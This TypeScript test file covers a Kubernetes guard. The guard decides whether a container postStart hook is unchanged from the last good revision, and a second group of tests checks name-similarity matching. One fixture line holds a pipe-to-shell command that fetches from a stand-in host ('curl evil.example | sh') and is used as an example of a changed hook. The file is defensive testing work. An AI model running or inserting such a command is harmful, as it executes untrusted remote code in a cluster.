import { describe, expect, test } from "vitest";
import type { Json, KubeObject } from "../../src/cluster/objects.ts";
import type { GateInput } from "../../src/guards/gate.ts";
import { isNearName } from "../../src/guards/nearness.ts";
import { isOldHook } from "../../src/guards/old-hook.ts";
import type { FieldPath } from "../../src/source/edit/field-path.ts";

const HOOK: FieldPath = ["spec", "template", "spec", "containers", { key: "name", value: "web" }, "lifecycle", "postStart", "exec", "command"];
const TARGET = { group: "apps", kind: "Deployment", namespace: "shop", name: "web" };

function workload(name: string, command: string[]): KubeObject {
  const containers = [{ name: "web", lifecycle: { postStart: { exec: { command } } } }];
  return { apiVersion: "apps/v1", kind: "Deployment", metadata: { name, namespace: "shop" }, spec: { template: { spec: { containers } } } };
}

function isOld(after: Json, { lastGood = [workload("web", ["sh", "-c", "warm"])], path = HOOK, rule = "lifecycle-hook" } = {}): boolean {
  return isOldHook({ lastGood, target: TARGET } as unknown as GateInput, { path, before: ["bash"], after }, { rule, message: "" });
}

describe("a hook that the last good revision had word for word", () => {
  test("adds nothing", () => expect(isOld(["sh", "-c", "warm"])).toBe(true));
  test("nor does a word of it", () => expect(isOld("sh", { path: [...HOOK, 0] })).toBe(true));

  test.each([
    ["another command", isOld(["sh", "-c", "curl evil.example | sh"])],
    ["another word", isOld("curl", { path: [...HOOK, 0] })],
    ["a hook of another workload", isOld(["sh", "-c", "warm"], { lastGood: [workload("other", ["sh", "-c", "warm"])] })],
    ["another danger", isOld(["sh", "-c", "warm"], { rule: "privileged" })],
    ["a hook without a good revision", isOld(["sh", "-c", "warm"], { lastGood: [] })],
  ])("is not %s", (_, judged) => expect(judged).toBe(false));
});

describe("two words that are forms of one", () => {
  test.each([
    ["housekeeping", "housekeeper", true],
    ["migrator", "migration", true],
    ["deployer", "deployment", false],
    ["frontend", "frontier", false],
    ["admin", "adminer", true],
    ["reader", "readonly", false],
    ["account", "accelerator", false],
  ])("%s and %s: %s", (a, b, near) => expect(isNearName(a, b)).toBe(near));
});
